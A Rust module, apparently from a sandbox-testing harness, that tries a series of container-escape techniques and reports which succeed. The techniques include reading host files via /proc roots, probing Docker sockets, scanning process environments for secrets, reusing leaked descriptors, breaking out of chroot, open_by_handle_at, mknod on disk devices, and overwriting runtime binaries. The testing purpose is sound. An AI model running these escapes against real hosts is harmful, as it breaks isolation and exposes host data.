//! The owner's files, other jobs' files, and the way to them.

use crate::report::{Report, checked};
use std::ffi::CString;
use std::fs;
use std::io::{Read, Result};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};

pub fn attack(report: &mut Report, attack: &str, words: &[String]) -> bool {
    match (attack, words) {
        ("read-host-file", [path, secret]) => read_everywhere(report, path, secret),
        ("docker-socket", []) => docker_socket(report),
        ("host-environment", [secret]) => environments(report, secret),
        ("other-volume", [path, secret]) => read_everywhere(report, path, secret),
        ("leaked-descriptors", []) => descriptors(report),
        ("chroot", []) => chroot(report),
        ("open-by-handle", [secret]) => by_handle(report, secret),
        ("disk-device", [major, minor]) => disk(report, major, minor),
        ("overwrite-runtime", []) => overwrite(report),
        ("write-root", []) => write_root(report),
        ("setuid-program", []) => setuid_program(report),
        ("setuid-program-inside", []) => {
            // Executed by the attack above; what it has, it says by its exit code.
            std::process::exit(i32::from(unsafe { libc::geteuid() } == 0));
        }
        _ => return false,
    }
    true
}

/// Looks for a file of the host by every road that has ever led out of a container.
fn read_everywhere(report: &mut Report, path: &str, secret: &str) {
    let path = path.trim_start_matches('/');
    let mut roads: Vec<PathBuf> = [
        "/",
        "/host",
        "/mnt",
        "/rootfs",
        "/proc/1/root",
        "/proc/self/root",
    ]
    .iter()
    .map(|root| Path::new(root).join(path))
    .collect();
    roads.push(Path::new("/proc/self/cwd/../../../../../..").join(path));
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        roads.push(entry.path().join("root").join(path));
        roads.push(entry.path().join("cwd/../../../../..").join(path));
    }
    for road in roads {
        let outcome = fs::read_to_string(&road);
        match outcome {
            Ok(text) if text.contains(secret) => report.got(road.display().to_string()),
            Ok(_) => report.tried(format!("{}: another file", road.display())),
            Err(error) => report.tried(format!("{}: {error}", road.display())),
        }
    }
}

fn docker_socket(report: &mut Report) {
    for path in [
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/podman/podman.sock",
        "/proc/1/root/run/docker.sock",
    ] {
        report.outcome(path, UnixStream::connect(path));
    }
}

fn environments(report: &mut Report, secret: &str) {
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let path = entry.path().join("environ");
        match fs::read(&path) {
            Ok(bytes) if String::from_utf8_lossy(&bytes).contains(secret) => {
                report.got(path.display().to_string());
            }
            Ok(_) => report.tried(format!("{}: without it", path.display())),
            Err(_) => {}
        }
    }
}

/// A runtime that forgets an open folder of the host hands over the host (as runc once did).
fn descriptors(report: &mut Report) {
    for number in 3..64 {
        let link = format!("/proc/self/fd/{number}");
        let Ok(target) = fs::read_link(&link) else {
            report.tried(format!("{number}: closed"));
            continue;
        };
        match fs::read_dir(&link) {
            Ok(_) if !target.starts_with("/proc") => {
                report.got(format!("{number}: {}", target.display()));
            }
            Ok(_) | Err(_) => report.tried(format!("{number}: {}", target.display())),
        }
    }
}

fn chroot(report: &mut Report) {
    let made = fs::create_dir_all("/tmp/cell");
    report.tried(format!("a folder to be put in: {made:?}"));
    unsafe {
        let before = libc::open(c"/".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
        if report
            .call("chroot", libc::chroot(c"/tmp/cell".as_ptr()).into())
            .is_some()
        {
            libc::fchdir(before);
            for _ in 0..64 {
                libc::chdir(c"..".as_ptr());
            }
            report.call("chroot out of it", libc::chroot(c".".as_ptr()).into());
        }
    }
}

/// Handles name files past every mount: the second inode of a file system is its root.
fn by_handle(report: &mut Report, secret: &str) {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        inode: [u32; 2],
    }
    let mut handle = Handle {
        bytes: 8,
        kind: 1,
        inode: [2, 0],
    };
    for path in [
        c"/out",
        c"/etc/hosts",
        c"/sbin/docker-init",
        c"/etc/resolv.conf",
        c"/",
    ] {
        let name = path.to_string_lossy();
        unsafe {
            let anchor = libc::open(path.as_ptr(), libc::O_RDONLY);
            if let Err(error) = checked(anchor.into()) {
                report.tried(format!("{name}: {error}"));
                continue;
            }
            let root = libc::syscall(
                libc::SYS_open_by_handle_at,
                anchor,
                &raw mut handle,
                libc::O_RDONLY,
            );
            let opened = report.call(&format!("the root beneath {name}"), root);
            libc::close(anchor);
            if let Some(root) = opened {
                let beneath = format!("/proc/self/fd/{root}{secret}");
                report.outcome(&beneath, fs::read(&beneath));
            }
        }
    }
}

fn disk(report: &mut Report, major: &str, minor: &str) {
    let number = libc::makedev(major.parse().unwrap_or(8), minor.parse().unwrap_or(0));
    for path in ["/tmp/disk", "/dev/disk", "/dev/shm/disk"] {
        let Ok(name) = CString::new(path) else {
            continue;
        };
        let made = unsafe { libc::mknod(name.as_ptr(), libc::S_IFBLK | 0o666, number) };
        match checked(made.into()) {
            Err(error) => report.tried(format!("mknod {path}: {error}")),
            Ok(_) => {
                let read = fs::File::open(path).and_then(|mut file| file.read(&mut [0; 512]));
                report.outcome(&format!("the host's disk through {path}"), read);
            }
        }
        let _ = fs::remove_file(path);
    }
    for path in [
        "/dev/sda",
        "/dev/vda",
        "/dev/nvme0n1",
        "/dev/mem",
        "/dev/port",
        "/dev/loop0",
        "/dev/fuse",
    ] {
        report.outcome(path, fs::File::open(path));
    }
}

/// The programs that the engine brought in lie on the host: whoever could write them would be run there.
fn overwrite(report: &mut Report) {
    for path in [
        "/proc/1/exe",
        "/sbin/docker-init",
        "/proc/self/exe",
        "/hostile",
    ] {
        let opened = fs::OpenOptions::new().write(true).open(path);
        report.outcome(path, opened);
    }
}

fn write_root(report: &mut Report) {
    for path in [
        "/planted",
        "/etc/hosts",
        "/etc/resolv.conf",
        "/etc/hostname",
        "/etc/planted",
        "/sbin/planted",
    ] {
        let written: Result<()> = fs::OpenOptions::new()
            .append(true)
            .create(true)
            .open(path)
            .map(drop);
        report.outcome(path, written);
    }
}

/// This image's program belongs to root and has the set-user-ID bit.
fn setuid_program(report: &mut Report) {
    let code = std::process::Command::new("/hostile")
        .arg("setuid-program-inside")
        .status()
        .map(|status| status.code());
    match code {
        Ok(Some(1)) => report.got("a process of root"),
        other => report.tried(format!("the program ran without root's rights: {other:?}")),
    }
}
